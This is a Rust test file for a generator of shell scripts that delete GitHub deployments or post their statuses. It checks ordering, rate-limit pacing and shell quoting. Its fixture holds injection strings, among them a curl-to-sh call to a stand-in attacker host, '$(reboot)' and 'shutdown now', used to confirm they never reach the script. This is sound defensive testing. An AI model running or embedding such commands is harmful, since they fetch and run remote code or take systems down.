use proptest::prelude::*;

use super::*;
use crate::api::budget::Pacing;
use crate::api::response::ApiError;
use crate::cleanup::{Action, RunItem, RunStatus};

fn item(id: u64, action: Action, state: ItemState) -> RunItem {
    RunItem {
        id: DeploymentId(id),
        environment: "production-x\nshutdown now #".into(),
        git_ref: "'; curl evil.example | sh; '".into(),
        sha: "$(reboot)".into(),
        action,
        state,
        refused_while_active: false,
    }
}

fn fresh(id: u64, action: Action) -> RunItem {
    let next = match action {
        Action::DeactivateThenDelete => Step::Deactivate,
        Action::PostStatus => Step::Status,
        _ => Step::Delete,
    };
    item(id, action, ItemState::Pending { next })
}

fn run_of(items: Vec<RunItem>) -> CleanupRun {
    CleanupRun {
        status: RunStatus::Running,
        items,
        requests_sent: 0,
        write: Write::Delete,
    }
}

fn repo() -> RepoRef {
    RepoRef {
        owner: "acme".into(),
        name: "web".into(),
    }
}

fn script(run: &CleanupRun, base: &ApiBase, pace: ScriptPace) -> String {
    cleanup_script(
        run,
        &ScriptFor {
            repo: repo(),
            base: base.clone(),
            host_label: "github.com".into(),
            pace,
            made_at: Timestamp::from_unix(1_790_000_000),
        },
    )
}

/// The steps as the script lists them after its body.
fn listed(text: &str) -> Vec<String> {
    let (_, after) = text
        .split_once("3<<'PLAN'\n")
        .expect("the steps' here-document");
    let (steps, rest) = after.split_once("PLAN\n").expect("its end");
    assert!(rest.contains("exit 1"), "the outcome after the steps");
    steps.lines().map(str::to_owned).collect()
}

#[test]
fn the_script_makes_the_plan_s_writes_in_order_and_an_active_one_s_status_first() {
    let run = run_of(vec![
        fresh(7, Action::DeactivateThenDelete),
        fresh(5, Action::Delete),
        fresh(3, Action::DeactivateThenDelete),
    ]);
    let text = script(
        &run,
        &ApiBase::github_com(),
        ScriptPace::of(&Pacing::github_com()),
    );
    assert_eq!(
        listed(&text),
        [
            "inactive 7",
            "delete 7",
            "delete 5",
            "inactive 3",
            "delete 3"
        ]
    );
    assert!(text.starts_with("#!/bin/sh\n"));
    assert!(text.contains("\nAPI='https://api.github.com'\n"));
    assert!(text.contains("\nREPO='acme/web'\n"));
    assert!(text.contains("\nTOTAL=5\n"));
    assert!(text.contains("\nGAP=1\nSTATUS_GAP=8\n"));
    assert!(text.contains("\nSTEM='deploydeck-cleanup-acme-web'\n"));
    assert!(text.contains("\nSTATE=\"${DEPLOYDECK_STATE:-$STEM.done}\"\n"));
    assert!(
        text.contains("# 3 deployments deleted (2 get an \"inactive\" status first): 5 requests")
    );
    assert_eq!(script_file_name(&repo()), "deploydeck-cleanup-acme-web.sh");
}

#[test]
fn nothing_the_api_wrote_reaches_the_script_and_the_token_is_only_read_from_the_environment() {
    let run = run_of(vec![fresh(9, Action::DeactivateThenDelete)]);
    let text = script(
        &run,
        &ApiBase::github_com(),
        ScriptPace::of(&Pacing::github_com()),
    );
    for hostile in ["production-x", "shutdown now", "curl evil", "$(reboot)"] {
        assert!(!text.contains(hostile), "{hostile} is in the script");
    }
    assert!(text.contains("\"$GITHUB_TOKEN\" |\n    curl -q --silent --config -"));
    assert!(!text.contains("--location") && !text.contains(" -L "));
}

#[test]
fn a_run_begun_in_the_browser_leaves_the_script_what_is_still_to_do() {
    let refused = ApiError::Network {
        message: "offline".into(),
    };
    let run = run_of(vec![
        item(
            1,
            Action::Delete,
            ItemState::Done {
                already_gone: false,
            },
        ),
        item(
            2,
            Action::DeactivateThenDelete,
            ItemState::Pending { next: Step::Delete },
        ),
        item(
            3,
            Action::Delete,
            ItemState::InFlight { step: Step::Delete },
        ),
        item(
            4,
            Action::DeactivateThenDelete,
            ItemState::InFlight {
                step: Step::Deactivate,
            },
        ),
        item(
            5,
            Action::Delete,
            ItemState::Failed {
                step: Step::Delete,
                error: refused,
            },
        ),
        item(6, Action::Delete, ItemState::Skipped),
    ]);
    assert_eq!(
        script_steps(&run),
        [
            (Step::Delete, DeploymentId(2)),
            (Step::Delete, DeploymentId(3)),
            (Step::Deactivate, DeploymentId(4)),
            (Step::Delete, DeploymentId(4)),
        ]
    );
}

#[test]
fn the_pace_keeps_github_s_limits_in_whole_seconds() {
    assert_eq!(
        ScriptPace::of(&Pacing::github_com()),
        ScriptPace {
            gap_s: 1,
            status_gap_s: 8
        }
    );
    assert_eq!(
        ScriptPace::of(&Pacing::enterprise(Some(2_500))),
        ScriptPace {
            gap_s: 3,
            status_gap_s: 3
        }
    );
    assert_eq!(
        ScriptPace::of(&Pacing::unpaced()),
        ScriptPace {
            gap_s: 0,
            status_gap_s: 0
        }
    );
    assert_eq!(
        ScriptPace::of(&Pacing::github_com()).describe(),
        "1 s after each deletion, 8 s after each \"inactive\" status"
    );
    assert_eq!(
        ScriptPace::of(&Pacing::unpaced()).describe(),
        "no pause after each request"
    );
    // 100,000 deletions, 300 ms an answer: a day and a half.
    let pace = ScriptPace::of(&Pacing::github_com());
    assert_eq!(pace.estimate_s(0, 100_000, 300), 130_000);
    assert_eq!(pace.estimate_s(10, 0, 0), 80);
}

#[test]
fn a_custom_base_is_quoted_for_the_shell() {
    let base = ApiBase::custom("http://127.0.0.1:18080").unwrap();
    let text = script(
        &run_of(vec![fresh(1, Action::Delete)]),
        &base,
        ScriptPace::of(&Pacing::unpaced()),
    );
    assert!(text.contains("\nAPI='http://127.0.0.1:18080'\n"));
    assert!(text.contains("\nGAP=0\nSTATUS_GAP=0\n"));
}

#[test]
fn a_status_run_s_script_posts_the_status_typed_and_deletes_nothing() {
    let description = "Stuck: it's been \"in progress\" since $(date) — marked by ops";
    let mut run = run_of(vec![
        fresh(13, Action::PostStatus),
        fresh(11, Action::PostStatus),
    ]);
    run.write = Write::Status {
        state: crate::github::model::DeploymentState::Error,
        description: description.into(),
    };
    let text = script(
        &run,
        &ApiBase::github_com(),
        ScriptPace::of(&Pacing::github_com()),
    );
    assert_eq!(listed(&text), ["status 13", "status 11"]);
    assert!(text.contains("# 2 deployments get an \"error\" status (nothing is deleted): 2 requests, in the plan's order."));
    let line = text.lines().find(|l| l.starts_with("STATUS=")).unwrap();
    let body: serde_json::Value =
        serde_json::from_str(&unquote(line.trim_start_matches("STATUS=")).unwrap()).unwrap();
    assert_eq!(
        body,
        serde_json::json!({ "state": "error", "description": description })
    );
    // A deletion run's status body is empty, and its steps never post one.
    let text = script(
        &run_of(vec![fresh(1, Action::Delete)]),
        &ApiBase::github_com(),
        ScriptPace::of(&Pacing::github_com()),
    );
    assert!(text.contains("\nSTATUS=''\n"));
    assert_eq!(listed(&text), ["delete 1"]);
}

/// How a POSIX shell reads a word made only of single-quoted parts and backslash-escaped characters.
fn unquote(word: &str) -> Option<String> {
    let mut out = String::new();
    let mut chars = word.chars();
    while let Some(c) = chars.next() {
        match c {
            '\'' => loop {
                match chars.next()? {
                    '\'' => break,
                    c => out.push(c),
                }
            },
            '\\' => out.push(chars.next()?),
            _ => return None,
        }
    }
    Some(out)
}

fn header_of(text: &str) -> &str {
    text.split_once("\nAPI=").unwrap().0
}

proptest! {
    #[test]
    fn a_quoted_word_is_read_back_as_it_was(text in ".*") {
        prop_assert_eq!(unquote(&sh_quote(&text)), Some(text));
    }

    #[test]
    fn the_header_is_comments_whatever_the_host_label(label in ".*") {
        let run = run_of(vec![fresh(1, Action::Delete)]);
        let text = cleanup_script(&run, &ScriptFor {
            repo: repo(),
            base: ApiBase::github_com(),
            host_label: label.clone(),
            pace: ScriptPace::of(&Pacing::github_com()),
            made_at: Timestamp::from_unix(0),
        });
        for line in header_of(&text).lines().skip(1) {
            prop_assert!(line.is_empty() || line.starts_with('#'), "{:?}", line);
        }
    }

    /// Whatever a repository's name holds (`RepoRef` is checked when typed and when read back, but the script
    /// does not rely on it), every setting the script interpolates is one quoted word that reads back as the
    /// value, and every other line of its header is a comment.
    #[test]
    fn every_interpolated_value_is_one_quoted_word(owner in "\\PC{1,12}", name in "\\PC{1,12}") {
        let hostile = RepoRef { owner, name };
        let run = run_of(vec![fresh(1, Action::Delete)]);
        let text = cleanup_script(&run, &ScriptFor {
            repo: hostile.clone(),
            base: ApiBase::github_com(),
            host_label: "github.com".into(),
            pace: ScriptPace::of(&Pacing::github_com()),
            made_at: Timestamp::from_unix(0),
        });
        let settings = text.split_once("\nAPI=").unwrap().1;
        let settings = format!("API={}", settings.split_once("\nINACTIVE=").unwrap().0);
        for line in settings.lines() {
            let (key, value) = line.split_once('=').unwrap();
            match key {
                "GAP" | "STATUS_GAP" | "TOTAL" => prop_assert!(value.bytes().all(|b| b.is_ascii_digit())),
                "STATE" => prop_assert_eq!(value, "\"${DEPLOYDECK_STATE:-$STEM.done}\""),
                "REPO" => prop_assert_eq!(unquote(value), Some(hostile.to_string())),
                "STEM" => prop_assert!(unquote(value).is_some_and(|v| v.ends_with(&hostile.name))),
                "API" | "STATUS" => prop_assert!(unquote(value).is_some()),
                other => prop_assert!(false, "an unexpected setting {}", other),
            }
        }
        for line in header_of(&text).lines().skip(1) {
            prop_assert!(line.is_empty() || line.starts_with('#'), "{:?}", line);
        }
    }

    #[test]
    fn statuses_never_go_faster_than_github_allows(
        spacing in 0u64..5_000,
        per_minute in proptest::option::of(1u32..200),
        per_hour in proptest::option::of(1u32..2_000),
    ) {
        let pacing = Pacing {
            write_spacing_ms: spacing,
            creates_per_minute: per_minute,
            creates_per_hour: per_hour,
            ..Pacing::unpaced()
        };
        let pace = ScriptPace::of(&pacing);
        // One request at a time, each followed by its pause: in any span, at most span / gap + 1 start.
        if let Some(m) = per_minute {
            prop_assert!(pace.status_gap_s * u64::from(m) >= 60);
        }
        if let Some(h) = per_hour {
            prop_assert!(pace.status_gap_s * u64::from(h) >= 3_600);
        }
        prop_assert!(pace.gap_s * 1_000 >= spacing && pace.status_gap_s >= pace.gap_s);
    }

    #[test]
    fn every_step_still_to_do_is_listed_once_in_plan_order(
        states in proptest::collection::vec(0u8..6, 0..40),
    ) {
        let items: Vec<RunItem> = states.iter().enumerate().map(|(i, s)| {
            let id = i as u64 + 1;
            match s {
                0 => fresh(id, Action::Delete),
                1 => fresh(id, Action::DeactivateThenDelete),
                2 => item(id, Action::DeactivateThenDelete, ItemState::Pending { next: Step::Delete }),
                3 => item(id, Action::Delete, ItemState::Done { already_gone: true }),
                4 => item(id, Action::Delete, ItemState::Skipped),
                _ => item(id, Action::DeactivateThenDelete, ItemState::InFlight { step: Step::Deactivate }),
            }
        }).collect();
        let run = run_of(items);
        let steps = script_steps(&run);
        let deletes: Vec<u64> = steps.iter().filter(|(s, _)| *s == Step::Delete).map(|(_, id)| id.0).collect();
        let to_do: Vec<u64> = run.items.iter().filter(|i| matches!(i.state, ItemState::Pending { .. } | ItemState::InFlight { .. })).map(|i| i.id.0).collect();
        prop_assert_eq!(deletes, to_do);
        prop_assert_eq!(steps.len(), run.progress().requests_left);
        // An item's status comes right before its deletion.
        for (i, (step, id)) in steps.iter().enumerate() {
            if *step == Step::Deactivate {
                prop_assert_eq!(steps.get(i + 1), Some(&(Step::Delete, *id)));
            }
        }
    }
}
